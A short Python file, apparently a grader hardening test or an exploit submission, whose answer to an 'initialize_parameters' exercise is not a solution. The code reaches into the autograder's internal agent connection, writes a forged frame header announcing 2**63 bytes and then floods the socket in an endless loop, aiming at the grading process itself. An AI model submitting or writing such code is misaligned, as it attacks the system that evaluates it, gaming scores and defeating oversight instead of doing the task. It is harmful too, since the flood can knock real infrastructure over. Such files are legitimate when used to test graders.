"""One function sends the header of a frame of 2**63 bytes, then a stream without end."""

DESERVES = 14


def submit(work):
    work.solve()
    work.answer(
        "initialize_parameters",
        """
def initialize_parameters(visible_size, hidden_size, rng):
    import os, struct, sys
    agent = sys.modules["autograder.kernel.inside.agent"].agent
    os.write(agent.connection.fileno(), struct.pack(">iQ", -1, 2**63))
    while True:
        os.write(agent.connection.fileno(), b"m" * 65536)
""",
    )
